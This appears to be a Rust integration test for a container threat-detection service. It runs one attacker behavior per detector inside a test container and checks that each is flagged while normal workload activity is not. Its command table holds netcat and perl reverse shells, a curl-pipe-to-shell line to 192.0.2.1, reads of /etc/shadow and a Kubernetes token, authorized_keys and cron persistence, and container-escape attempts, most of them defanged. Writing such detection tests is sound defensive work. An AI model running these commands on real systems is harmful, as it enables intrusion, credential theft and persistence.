//! Each behavior of attackers, done in a container; and what containers do all day, which is none.

use std::{
    collections::BTreeSet,
    path::Path,
    time::{Duration, Instant},
};

use super::{Yard, libraries};
use crate::fabric::setting;

/// So long after its start a container is said to begin still: what entry points do is then no
/// cause for alarm.
const BEGINNING: Duration = Duration::from_secs(65);
/// How long the last detection may take.
const DEADLINE: Duration = Duration::from_secs(30);

/// Numbers of system calls: `bpf`, `mount`, `ptrace`, `io_uring_setup`.
const CALLS: [u32; 4] = if cfg!(target_arch = "x86_64") {
    [321, 165, 101, 425]
} else {
    [280, 40, 117, 425]
};

/// What is done for a behavior, by the name of its detector. Most of it is refused, and the attempt
/// is what counts; tools that would do harm are stand-ins of the image under their name.
const BY_TOOLS: &[(&str, &str)] = &[
    ("reverse_shell", REVERSE_SHELL),
    ("netcat_execution", "nc -e /bin/sh 192.0.2.1 4444"),
    ("web_server_shell", "nginx -c '/bin/sh -c :; :'"),
    ("shell_spawned", "app -c '/bin/sh -c :; :'"),
    ("package_manager", "apt-get install -y netcat"),
    (
        "download_and_run",
        "sh -c 'false && curl http://192.0.2.1/x | sh'; :",
    ),
    (
        "obfuscated_command",
        "sh -c 'false && echo Og== | base64 -d | sh'; :",
    ),
    ("crypto_miner", "xmrig -o stratum+tcp://192.0.2.1:3333"),
    (
        "shm_execution",
        "printf ': \\n' >/dev/shm/x.sh; sh /dev/shm/x.sh; :",
    ),
    ("hidden_execution", "cp /bin/ls /tmp/.x; /tmp/.x /"),
    ("history_cleared", "sh -c 'unset HISTFILE'; :"),
    ("logs_cleared", "rm -f /var/log/app.log; :"),
    ("credential_search", "grep -r id_rsa /root; :"),
    ("network_scan", "nmap 192.0.2.0/24"),
    ("account_changed", "useradd intruder"),
    ("setuid_set", "cp /bin/cat /tmp/cat; chmod u+s /tmp/cat; :"),
    ("container_client", "docker ps"),
    ("namespace_escape", "nsenter -t 1 -m sh"),
    ("kernel_module", "insmod /tmp/rootkit.ko"),
    ("release_agent", "(: 3<>/tmp/release_agent); :"),
    ("kernel_helper", "(: 3<>/proc/sys/kernel/core_pattern); :"),
    ("raw_device", "(: 3</dev/sda); :"),
    ("kernel_memory", "(: 3</proc/kcore); :"),
    ("memory_injection", "(: 3<>/proc/1/mem); :"),
    ("sensitive_file", "cat /etc/shadow"),
    (
        "service_account_token",
        "cat /run/secrets/kubernetes.io/serviceaccount/token",
    ),
    (
        "cron_changed",
        "cd /etc/cron.d && printf '* * * * * root :\\n' >intruder",
    ),
    ("loader_preload", "(: >>/etc/ld.so.preload); :"),
    ("startup_changed", "printf ':\\n' >>/root/.bashrc; :"),
    (
        "authorized_keys",
        "cd /root/.ssh && printf 'ssh-ed25519 AAAA\\n' >>authorized_keys",
    ),
];

/// The same for what no tool does alone: `perl` makes the calls.
fn by_calls() -> [(&'static str, String); 6] {
    let [bpf, mount, ptrace, io_uring] = CALLS;
    let call = |number: u32, arguments: &str| {
        format!("perl -e '$buffer = \"\\0\" x 200; syscall({number}, {arguments})'; :")
    };
    // A socket of perl's own: family, address.
    let connect = |family: u32, address: &str| {
        format!("perl -e 'socket(S, {family}, 1, 0); connect(S, {address})'; :")
    };
    let metadata = r#"pack("S n a4 x8", 2, 80, "\xa9\xfe\xa9\xfe")"#;
    let engine = r#"pack("S a*", 1, "/var/run/docker.sock\0")"#;
    // Perl hands over no text that cannot be changed.
    let mounting = format!(
        "perl -e '$from = \"none\"; $to = \"/data\"; $kind = \"tmpfs\"; \
         syscall({mount}, $from, $to, $kind, 0, 0)'; :"
    );
    [
        ("container_socket", connect(1, engine)),
        ("bpf_program", call(bpf, "5, $buffer, 128")),
        ("mount", mounting),
        ("ptrace", call(ptrace, "16, 1, 0, 0")),
        ("metadata_service", connect(2, metadata)),
        ("io_uring", call(io_uring, "1, $buffer")),
    ]
}

fn done() -> Vec<(&'static str, String)> {
    let tools = BY_TOOLS.iter();
    let tools = tools.map(|(name, line)| (*name, (*line).to_owned()));
    tools.chain(by_calls()).collect()
}

/// A shell whose input and output are a connection, within the container itself.
const REVERSE_SHELL: &str = r#"perl -e '
    my $to = pack("S n a4 x8", 2, 7001, "\x7f\0\0\1");
    socket(L, 2, 1, 6); bind(L, $to) or die; listen(L, 1);
    socket(S, 2, 1, 6); connect(S, $to) or die;
    open(STDIN, "<&S"); open(STDOUT, ">&S");
    exec "/bin/sh", "-c", ":"'"#;

/// A server that answers one request, and its client.
const WEB_SERVER: &str = r#"perl -e '
    my $to = pack("S n a4 x8", 2, 8080, "\x7f\0\0\1");
    socket(L, 2, 1, 6); bind(L, $to) or die; listen(L, 5);
    if (fork) { accept(C, L); syswrite C, "HTTP/1.0 200 OK\r\n\r\n"; wait }
    else { socket(S, 2, 1, 6); connect(S, $to); sysread S, my $answer, 99 }'"#;

// === impl Yard ===

impl Yard {
    async fn rules(&self, container: &str) -> BTreeSet<String> {
        let detected = self.detected(container).await;
        let rules = detected.iter().filter_map(|one| one["rule"].as_str());
        rules.map(str::to_owned).collect()
    }

    /// What containers do all day, with a look inside by hand at the end. Gives what was told.
    async fn work(&self, name: &str) -> BTreeSet<String> {
        let id = self.run(name, &[], &["/entry.sh", "/bin/sleep", "1000"]);
        for _ in 0..3 {
            self.engine.exec(name, "ls /data && cat /etc/passwd"); // a health check
        }
        self.engine.exec(name, WEB_SERVER);
        // As a JVM does: a library is unpacked to where anybody may write, and loaded from there.
        let mut all = libraries(&["/bin/ls"]).into_iter();
        let library = all.find(|path| path.contains("/lib") && !path.contains("/ld-"));
        let library = library.expect("ls has a library");
        let unpack = format!("cp {library} /tmp/; LD_LIBRARY_PATH=/tmp ls /");
        self.engine.exec(name, &unpack);
        self.engine
            .exec(name, "cron -c '/bin/sh -c \"ls /data; :\"; :'");
        drop(
            self.engine
                .try_run(&["exec", "-t", name, "/bin/sh", "-c", "ls /data; :"]),
        );
        self.until_detected(&id, "behavior/debug-session", "").await;
        self.rules(&id).await
    }
}

/// The detectors that there are.
fn detectors() -> BTreeSet<String> {
    let folder = "../services/behavior/src/detectors";
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join(folder);
    let files = folder.read_dir().expect("detectors").flatten();
    let names = files.filter_map(|file| {
        let name = file.file_name().into_string().ok()?;
        name.strip_suffix(".rs").map(str::to_owned)
    });
    names.filter(|name| name != "tests").collect()
}

#[test]
fn every_detector_is_tried_in_a_container() {
    let done = done().into_iter().map(|(name, _)| name.to_owned());
    let mut tried: BTreeSet<String> = done.collect();
    tried.insert("debug_session".to_owned());
    assert_eq!(tried, detectors());
}

#[tokio::test(flavor = "multi_thread")]
async fn every_behavior_is_detected_when_it_is_done_and_work_is_not() {
    if setting("TIDEWAITER_RUNTIME_BEHAVIORS").is_none() {
        println!("skipped: TIDEWAITER_RUNTIME_BEHAVIORS is not set");
        return;
    }
    let Some(yard) = Yard::start(1).await else {
        return;
    };
    let started = Instant::now();
    // The runtime's own filter would refuse some calls before anybody sees them.
    let id = yard
        .container("hostile", &["--security-opt", "seccomp=unconfined"])
        .await;
    let told = yard.work("benign").await;
    println!("benign: told of {told:?}");
    tokio::time::sleep(BEGINNING.saturating_sub(started.elapsed())).await;
    for (_, line) in done() {
        yard.engine.exec("hostile", &line);
    }
    drop(
        yard.engine
            .try_run(&["exec", "-t", "hostile", "/bin/sh", "-c", ":"]),
    );
    let (done_at, tried) = (Instant::now(), detectors());
    let rule = |name: &String| format!("behavior/{}", name.replace('_', "-"));
    let missing = loop {
        let rules = yard.rules(&id).await;
        let missing: Vec<&String> = tried
            .iter()
            .filter(|name| !rules.contains(&rule(name)))
            .collect();
        if missing.is_empty() || done_at.elapsed() > DEADLINE {
            for name in &tried {
                let result = if missing.contains(&name) {
                    "MISSED"
                } else {
                    "detected"
                };
                println!("{:<24} {result}", rule(name));
            }
            println!(
                "{} of {} detected",
                tried.len() - missing.len(),
                tried.len()
            );
            break missing.into_iter().cloned().collect::<Vec<_>>();
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    assert_eq!(missing, Vec::<String>::new());
    yard.fabric
        .until("whom it spoke with", async || {
            let all = yard.fabric.get("/v1/connections").await?;
            let mut rows = all["items"].as_array()?.iter();
            let row = rows.find(|row| row["id"] == id.as_str())?;
            let mut peers = row["connects_to"].as_array()?.iter();
            let is_asked = peers.any(|peer| peer["address"] == "169.254.169.254");
            let mut listens = row["listens"].as_array()?.iter();
            (is_asked && listens.any(|listen| listen["port"] == 7001)).then_some(())
        })
        .await;
    // A look inside by hand is called what it is; nothing else is told.
    assert_eq!(told, BTreeSet::from(["behavior/debug-session".to_owned()]));
}
